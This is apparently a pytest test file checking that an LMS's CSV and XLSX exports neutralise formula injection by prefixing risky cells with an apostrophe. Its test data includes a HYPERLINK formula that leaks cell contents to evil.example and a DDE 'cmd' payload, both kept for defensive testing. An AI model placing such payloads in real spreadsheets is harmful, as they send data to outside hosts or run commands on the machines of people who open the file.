"""Exports that are safe to open in a spreadsheet: no cell ever runs as a formula."""

from __future__ import annotations

import csv
import io
import types
from datetime import UTC, date, datetime
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from lms.reporting.spreadsheet import csv_stream, neutralise, sheet_title, write_xlsx

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for your certificate")'
DANGEROUS = [
    HYPERLINK,
    "-2+3",
    "+44 7700 900123",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "   =cmd|' /C calc'!A0",
    "\uff1d1+1",
]
HARMLESS = ["Amira Hassan", "", "2-3", "a=b", "O'Neill", "100%"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_text_that_could_be_a_formula_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_ordinary_text_is_left_alone(text):
    assert neutralise(text) == text


def _read_csv(chunks) -> list[list[str]]:
    text = "".join(chunks)
    assert text.startswith("\ufeff"), "Excel needs the byte-order mark to read UTF-8"
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def test_csv_cells_are_neutralised_and_values_written_plainly():
    moment = datetime(2027, 3, 1, 14, 30, tzinfo=UTC)
    rows = [
        [HYPERLINK, "-2+3", -2, 2.5, Decimal("0.75"), True, None, date(2027, 1, 31), moment],
        ['Zoë, "Z" Adams', "line\nbreak", 0, 0.0, Decimal(1), False, "", "@x", "=1"],
    ]
    header = ["=Name", "Sum", "Int", "Float", "Decimal", "Bool", "None", "Date", "When"]
    parsed = _read_csv(csv_stream(header, rows))
    assert parsed[0] == ["'=Name", "Sum", "Int", "Float", "Decimal", "Bool", "None", "Date", "When"]
    assert parsed[1] == [
        "'" + HYPERLINK,
        "'-2+3",
        "-2",
        "2.5",
        "0.75",
        "yes",
        "",
        "2027-01-31",
        "2027-03-01 14:30",
    ]
    assert parsed[2] == ['Zoë, "Z" Adams', "line\nbreak", "0", "0.0", "1", "no", "", "'@x", "'=1"]


def test_csv_is_streamed_row_by_row():
    consumed = 0

    def rows():
        nonlocal consumed
        for i in range(10_000):
            consumed += 1
            yield [i, f"Person {i}", "=1+1"]

    stream = csv_stream(["n", "name", "formula"], rows())
    assert isinstance(stream, types.GeneratorType)
    first_three = [next(stream) for _ in range(3)]
    assert consumed == 2, "rows are read only as the download needs them"
    assert first_three[2] == "1,Person 1,'=1+1\r\n"
    rest = list(stream)
    assert consumed == 10_000
    assert len(first_three) + len(rest) == 10_001


def _read_xlsx(handle):
    with handle:
        workbook = load_workbook(handle)
    return workbook.worksheets[0]


def test_xlsx_cells_are_text_never_formulas():
    rows = [[text, len(text)] for text in DANGEROUS + HARMLESS]
    sheet = _read_xlsx(write_xlsx(["Text", "Length"], rows, title="Cohort: Spring/2027"))
    assert sheet.title == "Cohort  Spring 2027"
    values = list(sheet.iter_rows(min_row=2, values_only=True))
    for (text, length), (written, written_length) in zip(rows, values, strict=True):
        # An empty cell reads back as None; XML stores a carriage return as a line feed.
        expected = neutralise(text).replace("\r", "\n") or None
        assert written == expected
        assert written_length == length
    for row in sheet.iter_rows(min_row=2, max_col=1):
        assert all(cell.data_type != "f" for cell in row)


def test_xlsx_keeps_numbers_dates_and_drops_characters_xml_cannot_hold():
    moment = datetime(2027, 3, 1, 14, 30, tzinfo=UTC)
    handle = write_xlsx(
        ["Name", "Count", "Date", "When", "Done"],
        [["Bell\x07 Ringer", -2, date(2027, 1, 31), moment, True]],
    )
    sheet = _read_xlsx(handle)
    header, row = list(sheet.iter_rows(values_only=True))
    assert header == ("Name", "Count", "Date", "When", "Done")
    assert sheet["A1"].font.bold
    assert row[0] == "Bell Ringer"
    assert row[1] == -2
    assert row[2].date() == date(2027, 1, 31)
    assert row[3] == datetime(2027, 3, 1, 14, 30)  # noqa: DTZ001 - spreadsheets have no zones
    assert row[4] is True


def test_xlsx_columns_are_wide_enough_that_dates_never_show_as_hashes():
    moment = datetime(2027, 3, 1, 14, 30, tzinfo=UTC)
    handle = write_xlsx(
        ["Name", "Started", "Last seen", "Notes"],
        [["Li", date(2027, 1, 31), moment, "x" * 200], ["Anna-Maria Ferrer", None, None, ""]],
    )
    sheet = _read_xlsx(handle)
    widths = {letter: sheet.column_dimensions[letter].width for letter in "ABCD"}
    assert widths["A"] >= len("Anna-Maria Ferrer")
    assert widths["B"] >= len("2027-01-31")
    assert widths["C"] >= len("2027-03-01 14:30")
    assert widths["D"] == 60  # long text stops at a readable width
    assert sheet["B2"].number_format == "yyyy-mm-dd"
    assert sheet["C2"].number_format == "yyyy-mm-dd hh:mm"


def test_xlsx_of_ten_thousand_rows():
    rows = ([i, f"Person {i}", "-1"] for i in range(10_000))
    handle = write_xlsx(["n", "name", "value"], rows)
    sheet = _read_xlsx(handle)
    assert sheet.max_row == 10_001
    assert sheet.cell(row=10_001, column=3).value == "'-1"


@pytest.mark.parametrize(
    ("title", "expected"),
    [("", "Sheet"), ("a" * 40, "a" * 31), ("What? [draft]", "What   draft")],
)
def test_sheet_titles_are_ones_excel_accepts(title, expected):
    assert sheet_title(title) == expected
